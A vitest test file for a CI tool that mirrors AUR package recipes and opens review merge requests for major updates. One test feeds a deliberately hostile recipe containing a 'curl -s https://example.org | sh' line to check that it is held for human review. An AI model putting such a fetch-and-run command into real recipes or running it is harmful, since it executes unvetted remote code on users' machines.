import { readFileSync, rmSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { aur, major, proposing } from './proposed-update.ts';
import { type Files, folderOf, recipe, writeFiles } from './recipe-texts.ts';
import { RecipeWorld } from './recipe-world.ts';

let world: RecipeWorld;
afterEach(() => world.dispose());

const branch = 'refs/heads/update-foo';

describe('a major change', () => {
  it('is proposed without losing what its git source has moved to in the same run', async () => {
    world = await RecipeWorld.open({}, { CI_HUMAN_REVIEW: 'true' });
    world.pushUpstream('up', {});
    const sources = [`git+${world.urlOf('up')}`];
    world.commit(folderOf('foo-git', aur, { sources }));
    world.pushToAur('foo-git', recipe('foo-git', { sources }), {
      modified: 1,
      maintainer: 'a',
      coMaintainers: [],
    });
    await world.run();
    world.pushUpstream('up', {});
    const hostile = recipe('foo-git', { sources, body: 'curl -s https://example.org | sh' });
    world.pushToAur('foo-git', hostile, { modified: 2, maintainer: 'a', coMaintainers: [] });
    expect((await world.run()).report.packages).toMatchObject([{ decision: 'review' }]);
    expect((await world.run()).delivered).toEqual(['foo-git']);
    expect((await world.run()).delivered).toEqual([]);
  });

  it('M14 is taken over silently where nobody reviews', async () => {
    world = await proposing(major, { settings: {} });
    expect((await world.run()).delivered).toEqual(['foo']);
    expect(world.tip(branch)).toBe('');
  });

  it('R01 goes to a branch and a merge request of its own, and minor ones go to main', async () => {
    world = await proposing(major, {
      settings: { CI_HUMAN_REVIEW: 'true', CI_HUMAN_REVIEW_ASSIGNEE: 'reviewer' },
      files: folderOf('bar', aur),
    });
    world.pushToAur('bar', recipe('bar', { pkgver: '2' }), { modified: 2 });
    const { report, delivered } = await world.run();
    expect(delivered).toEqual(['bar']);
    expect(world.subjects()).toEqual(['chore(update): bar', 'init']);
    expect(world.subjects('update-foo')).toEqual(['chore(update): foo', 'init']);
    expect(world.git(world.remote, 'diff', '--name-only', 'main~1', 'update-foo').split('\n')).toEqual([
      'foo/.SRCINFO',
      'foo/PKGBUILD',
    ]);
    expect(world.show('state', 'foo')).toContain('CI_PKGBUILD_TIMESTAMP=2\n');
    expect(world.show('state', 'bar')).toContain('CI_PKGBUILD_TIMESTAMP=2\n');
    expect(world.gitlab.kept).toMatchObject([
      {
        branch: 'update-foo',
        target: 'main',
        title: 'chore(update): foo',
        labels: ['ci', 'human-review', 'update'],
        assignees: [7],
        description: expect.stringMatching(/requires human review[\s\S]*curl[\s\S]*upstream project/),
      },
    ]);
    expect(report.reviews).toEqual({ open: 1, closed: [] });
    expect(report.packages.find(({ name }) => name === 'foo')?.review?.url).toContain('/merge_requests/1');
  });

  it('R01 becomes a pull request at GitHub', async () => {
    world = await proposing();
    world.service = 'github';
    await world.run();
    expect(world.github.kept).toMatchObject([
      { branch: 'update-foo', title: 'chore(update): foo', labels: ['ci', 'human-review', 'update'] },
    ]);
    expect(world.subjects('update-foo')[0]).toBe('chore(update): foo');
  });

  it('R02 22.12 is proposed once, however often the run comes by', async () => {
    world = await proposing();
    await world.run();
    const proposed = world.tip(branch);
    await world.later(3_600_000);
    await world.run();
    const requests = world.gitlab.heard.length;
    await world.later(3_600_000);
    await world.run();
    expect(world.tip(branch)).toBe(proposed);
    expect(world.gitlab.heard.filter(({ method }) => method === 'POST')).toHaveLength(1);
    // its address is known by now
    expect(world.gitlab.heard).toHaveLength(requests);
    expect(world.checks()['foo']).toMatchObject({
      review: { branch: 'update-foo', url: expect.any(String) },
    });
    // touched upstream without a change: the branch is as it should be
    world.aur.set('foo', { modified: 3, maintainer: 'a', coMaintainers: ['b'] });
    await world.run();
    expect(world.tip(branch)).toBe(proposed);
  });

  it('is not proposed again when somebody closed the request and left the branch, until upstream goes on', async () => {
    world = await proposing();
    await world.run();
    await world.run();
    world.gitlab.kept.length = 0;
    world.aur.set('foo', { modified: 3, maintainer: 'a', coMaintainers: ['b'] });
    const { report } = await world.run();
    expect(report.packages).toMatchObject([{ decision: 'review', review: { url: expect.any(String) } }]);
    expect(world.gitlab.kept).toEqual([]);
    world.pushToAur('foo', recipe('foo', { ...major, pkgver: '4' }), { modified: 4 });
    await world.run();
    expect(world.gitlab.kept).toMatchObject([{ branch: 'update-foo' }]);
  });

  it('R02 is recognised in a shallow clone, as CI services make them', async () => {
    world = await proposing();
    await world.run();
    const proposed = world.tip(branch);
    for (let index = 0; index < 4; index += 1) world.commit({ 'README.md': `${index}` });
    rmSync(world.checkout, { recursive: true });
    world.git(world.folder, 'clone', '--quiet', '--depth=1', `file://${world.remote}`, world.checkout);
    world.aur.set('foo', { modified: 3, maintainer: 'a', coMaintainers: ['b'] });
    const { report, failure } = await world.run();
    expect(failure).toBeUndefined();
    expect(report.packages).toMatchObject([{ decision: 'review' }]);
    expect(report.problems).toEqual([]);
    expect(world.tip(branch)).toBe(proposed);
  });

  it('is proposed anew, in the same request, when upstream goes on', async () => {
    world = await proposing();
    await world.run();
    const proposed = world.tip(branch);
    world.pushToAur('foo', recipe('foo', { ...major, pkgver: '3' }), { modified: 3, maintainer: 'z' });
    await world.run();
    expect(world.tip(branch)).not.toBe(proposed);
    expect(world.show('update-foo', 'foo/PKGBUILD')).toContain('pkgver=3');
    expect(world.gitlab.kept).toHaveLength(1);
    // who stands behind it changed since the last look
    expect(world.gitlab.kept[0]?.description).toMatch(/\bz\b/);
  });

  it('names those who took the recipe over until somebody accepts what they do', async () => {
    world = await proposing({ pkgver: '1' });
    await world.run();
    for (const round of [3, 4]) {
      const wishes = { ...major, pkgver: `${round}` };
      world.pushToAur('foo', recipe('foo', wishes), { modified: round, maintainer: 'z' });
      await world.run();
      expect(world.gitlab.kept[0]?.description).toMatch(/new maintainer: `z`[\s\S]*lost a maintainer: `a`/);
      expect(world.show('state', 'foo')).toContain('CI_PKGBUILD_MAINTAINERS=a b\n');
    }
    world.git(world.remote, 'update-ref', 'refs/heads/main', 'refs/heads/update-foo');
    await world.onCommit();
    await world.run();
    expect(world.show('state', 'foo')).toContain('CI_PKGBUILD_MAINTAINERS=z\n');
  });

  it('is proposed by a later run when the forge was not there', async () => {
    world = await proposing();
    const down = { status: 500, body: {} };
    world.gitlab.first.push(down, down, down, down, down, down, down, down);
    const { report, failure } = await world.run();
    expect(failure).toBeUndefined();
    expect(report.problems).toMatchObject([{ code: 'CIS008', severity: 'error' }]);
    expect(world.tip(branch)).not.toBe('');
    world.gitlab.first.length = 0;
    await world.run();
    expect(world.gitlab.kept).toMatchObject([{ branch: 'update-foo' }]);
  });

  it('waits on its branch where there is no token, or no forge at all', async () => {
    world = await proposing();
    const { report } = await world.run({ variables: { ACCESS_TOKEN: '' } });
    expect(report.problems).toMatchObject([
      { code: 'CIS008', severity: 'error', what: expect.stringContaining('ACCESS_TOKEN') },
    ]);
    world.service = 'none';
    const local = await world.run();
    expect(local.report.problems).toMatchObject([{ code: 'CIS008', severity: 'warning' }]);
    expect(world.tip(branch)).not.toBe('');
  });

  it('R03 is withdrawn when a minor change takes its place, in the same push', async () => {
    world = await proposing();
    await world.run();
    world.pushToAur('foo', recipe('foo', { pkgver: '3' }), { modified: 3 });
    world.hook(
      'reference-transaction',
      'test "$1" = committed && { cat; echo --; } >> "$GIT_DIR/moved"; exit 0',
    );
    const { delivered, report } = await world.run();
    expect(delivered).toEqual(['foo']);
    expect(world.tip(branch)).toBe('');
    expect(report.reviews).toEqual({ open: 0, closed: ['foo'] });
    const pushes = readFileSync(`${world.remote}/moved`, 'utf8').split('--\n');
    const together = pushes.find((text) => text.includes('refs/heads/main'));
    expect(together).toContain('refs/heads/update-foo');
    expect(together).toContain('refs/heads/state');
    expect(world.checks()['foo']).not.toHaveProperty('review');
  });

  it('R07 is built once when it is merged, and its branch goes where the forge left it', async () => {
    world = await proposing();
    await world.run();
    world.git(world.desk, 'fetch', '--quiet', 'origin', 'main', 'update-foo');
    world.git(world.desk, 'checkout', '--quiet', '--detach', 'FETCH_HEAD');
    world.git(world.desk, 'fetch', '--quiet', 'origin', 'update-foo');
    world.git(
      world.desk,
      'merge',
      '--quiet',
      '--no-ff',
      '--message',
      'Merge branch update-foo',
      'FETCH_HEAD',
    );
    world.git(world.desk, 'push', '--quiet', 'origin', 'HEAD:main');
    expect((await world.onCommit()).packages).toEqual([{ name: 'foo' }]);
    const { failure, delivered, report } = await world.run();
    expect(failure).toBeUndefined();
    expect(delivered).toEqual([]);
    expect(report.reviews.closed).toEqual(['foo']);
    expect(world.manager.names()).toEqual(['foo']);
    expect(world.tip(branch)).toBe('');
  });

  it('22.26 is withdrawn when its folder is gone', async () => {
    world = await proposing();
    await world.run();
    world.commit({ foo: null }, { message: 'chore(drop): foo' });
    const { report } = await world.run();
    expect(report.reviews).toEqual({ open: 0, closed: ['foo'] });
    expect(world.tip(branch)).toBe('');
    expect(world.paths('state')).toEqual(['.checks.json', '.commit']);
  });

  it('R08 is found among a hundred and fifty others', async () => {
    world = await proposing();
    for (let index = 0; index < 149; index += 1) world.gitlab.keep(`other-${index}`);
    world.gitlab.keep('update-foo');
    const { report } = await world.run();
    expect(world.gitlab.kept).toHaveLength(150);
    expect(report.packages[0]?.review?.url).toContain('/merge_requests/150');
  });
});

describe('a branch of a person', () => {
  /** Commits below a branch of its own as somebody, and pushes it there alone. */
  const work = (name: string, files: Files, given: { author?: string; message?: string } = {}): string => {
    const { author = 'Human <human@localhost>', message = 'my work' } = given;
    world.git(world.desk, 'fetch', '--quiet', 'origin', 'main');
    world.git(world.desk, 'checkout', '--quiet', '--force', '--detach', 'FETCH_HEAD');
    writeFiles(world.desk, files);
    world.git(world.desk, 'add', '--all', '--force');
    world.git(world.desk, 'commit', '--quiet', '--allow-empty', `--author=${author}`, '--message', message);
    world.git(world.desk, 'push', '--quiet', '--force', 'origin', `HEAD:refs/heads/${name}`);
    return world.git(world.desk, 'rev-parse', 'HEAD');
  };
  const robot = 'Robot <robot@localhost>';

  it('22.26 is kept whatever its name, when there is nothing in it that main has not', async () => {
    world = await RecipeWorld.open(folderOf('foo', 'CI_PKGBUILD_SOURCE=custom\n'));
    const kept = new Map([
      ['update-readme', work('update-readme', { 'README.md': 'better' })],
      ['update-foo', work('update-foo', {})],
      ['update-ci/x', work('update-ci/x', {}, { author: robot, message: 'chore(update): ci/x' })],
      ['update-gone', work('update-gone', { x: '1' }, { author: robot, message: 'chore(update): gone' })],
      ['update-bar', work('update-bar', {}, { author: robot })],
    ]);
    const { report } = await world.run();
    for (const [name, commit] of kept)
      expect([name, world.tip(`refs/heads/${name}`)]).toEqual([name, commit]);
    expect(report.reviews.closed).toEqual([]);
  });

  it('is not overwritten by an update, and that is trouble of its package alone', async () => {
    world = await proposing(major, { settings: { CI_HUMAN_REVIEW: 'true' }, files: folderOf('bar', aur) });
    world.pushToAur('bar', recipe('bar', { pkgver: '2' }), { modified: 2 });
    const theirs = work('update-foo', { 'foo/notes': 'mine' });
    const { report, delivered } = await world.run();
    expect(delivered).toEqual(['bar']);
    expect(world.tip(branch)).toBe(theirs);
    expect(report.packages.find(({ name }) => name === 'foo')).toMatchObject({
      decision: 'failed',
      problems: [{ code: 'CIS008', what: expect.stringContaining("'update-foo' is somebody else's") }],
    });
    world.git(world.remote, 'update-ref', '-d', branch);
    await world.run();
    expect(world.subjects('update-foo')[0]).toBe('chore(update): foo');
  });

  it('is what ours becomes when somebody goes on with it', async () => {
    world = await proposing();
    await world.run();
    world.git(world.desk, 'fetch', '--quiet', 'origin', 'update-foo');
    world.git(world.desk, 'checkout', '--quiet', '--detach', 'FETCH_HEAD');
    writeFiles(world.desk, { 'foo/fix.patch': 'fix' });
    world.git(world.desk, 'add', '--all');
    world.git(world.desk, 'commit', '--quiet', '--message', 'fix it');
    world.git(world.desk, 'push', '--quiet', 'origin', 'HEAD:update-foo');
    const theirs = world.tip(branch);
    world.pushToAur('foo', recipe('foo', { pkgver: '3' }), { modified: 3 });
    expect((await world.run()).delivered).toEqual(['foo']);
    expect(world.tip(branch)).toBe(theirs);
  });
});
